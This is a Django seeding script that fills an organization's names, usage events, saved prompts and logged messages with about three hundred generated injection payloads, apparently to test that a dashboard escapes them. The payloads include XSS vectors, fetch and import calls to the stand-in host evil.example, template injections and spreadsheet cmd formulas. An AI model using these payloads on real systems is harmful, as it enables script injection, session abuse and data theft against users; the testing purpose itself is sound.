"""An organization in which everything that can have a name, or be said, is an attack; run through `manage.py shell`.

Each attack, if a page ran it, would open a dialog or ask another host for something. The last line of the output is
a JSON object of ids.
"""

from __future__ import annotations

import datetime
import itertools
import json
import sys
from collections.abc import Iterator

from django.utils import timezone

from admin_api.actions import (
    api_keys,
    memberships,
    organizations,
    saved_prompts,
    service_accounts,
    workspaces,
)
from admin_api.actor import SYSTEM
from gateway.ids import derived_attempt_id
from gateway.metering.event import UsageEvent
from gateway.models import ApiKey, Organization, Tier, Workspace
from gateway.token_usage import TokenUsage
from tests.batches.rows import batch_of
from tests.contents import kept
from tests.dashboard import stage
from tests.people import person

ADMIN = "Xenia"
CALLS = (
    "alert({n})",
    "confirm({n})",
    "prompt({n})",
    "fetch('//evil.example/{n}')",
    "import('//evil.example/{n}.js')",
)
FORMS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "<a href=javascript:{call} autofocus>x</a>",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onmouseover={call} x="',
    "' onfocus={call} autofocus x='",
    '" autofocus onfocus="{call}',
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "{{{{{call}}}}}",
    "{{% {call} %}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "`${{{call}}}`",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={call}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<div hx-get=//evil.example/{n} hx-trigger=load>x</div>",
    "<div hx-on:load={call}>x</div>",
    "<div data-live hx-get=/logout?{n} hx-trigger=load>x</div>",
    "<x onclick={call} tabindex=1 id=x autofocus>",
    "<button popovertarget=menu onclick={call}>x",
    "<dialog open onclose={call}><form method=dialog><button>x",
    "<marquee onstart={call}>",
    "<select autofocus onfocus={call}>",
    "<p style=background:url(//evil.example/{n})>",
    "=cmd|' /C calc'!A{n}",
    '+HYPERLINK("//evil.example/{n}")',
    "@SUM({n})",
    "-2+3+cmd|' /C calc'!A{n}",
    "\u202e{call}\u202c<script>{call}</script>",
    "\u001b]8;;//evil.example/{n}\u0007x\u001b]8;;\u0007",
)


def attacks() -> list[str]:
    """Every form with every call: three hundred."""
    pairs = itertools.product(CALLS, FORMS)
    return [form.format(call=call.format(n=n), n=n) for n, (call, form) in enumerate(pairs)]


def main() -> None:
    every = attacks()
    acme = organizations.create(actor=SYSTEM, name=every[0], tier=Tier.objects.get(name="enterprise"))
    xenia = person(ADMIN, acme, "admin")
    keys = [
        api_keys.create(actor=SYSTEM, organization=acme, name=name, created_by=xenia)[0] for name in every
    ]
    rooms = [workspaces.create(actor=SYSTEM, organization=acme, name=name) for name in every[:60]]
    _people(acme, every[60:120])
    stage._drain(list(_events(acme, keys, every)))
    account = service_accounts.create(actor=SYSTEM, organization=acme, name="robot", description=every[7])
    batch = batch_of(acme, api_key_id=keys[3].id, model_names=every[120:124], total=3)
    saved_prompts.save(
        actor=SYSTEM,
        member=xenia.memberships.get(),
        name=every[5],
        content={"system": every[6], "message": every[8], "variables": {"x": every[9]}},
    )
    known = {
        "key": keys[0].id,
        "workspace": rooms[0].id,
        "member": xenia.id,
        "service_account": account.id,
        "batch": batch.id,
        "request": _said(acme.workspaces.get(is_default=True), every),
    }
    sys.stdout.write(json.dumps(known) + "\n")


def _people(organization: Organization, names: list[str]) -> None:
    for number, name in enumerate(names):
        user = person(f"hostile{number}", None, None)
        user.name = name
        user.save(update_fields=["name"])
        memberships.add(actor=SYSTEM, organization=organization, user=user, role="developer")


def _events(organization: Organization, keys: list[ApiKey], every: list[str]) -> Iterator[UsageEvent]:
    """Requests whose model, client, session and error are attacks."""
    room = organization.workspaces.get(is_default=True).id
    for number, (key, attack) in enumerate(zip(keys, every, strict=True)):
        yield UsageEvent(
            attempt_id=derived_attempt_id(timezone.now() - datetime.timedelta(seconds=number), attack),
            request_id=f"req_hostile{number}",
            organization_id=organization.id,
            workspace_id=room,
            api_key_id=key.id,
            endpoint="messages",
            model_requested=attack,
            model=attack if number % 50 == 0 else "claude-sonnet-5-5",
            provider=attack[:60],
            upstream_model=attack,
            stream=True,
            status=500 if number % 2 else 200,
            usage_source="reported",
            usage=TokenUsage(10, output_tokens=5),
            latency_ms=10,
            error_type=attack[:60] if number % 2 else "",
            stop_reason=attack[:60],
            user_agent=attack,
            session_id=attack,
        )


def _said(workspace: Workspace, every: list[str]) -> str:
    asked = {"messages": [{"role": "user", "content": every[10]}], "system": every[11], "model": every[12]}
    answered = {"type": "message", "content": [{"type": "text", "text": text} for text in every]}
    row = kept(
        workspace,
        request_id="req_hostile0",
        age=datetime.timedelta(0),
        request=json.dumps(asked).encode(),
        response=json.dumps(answered).encode(),
    )
    return row.request_id
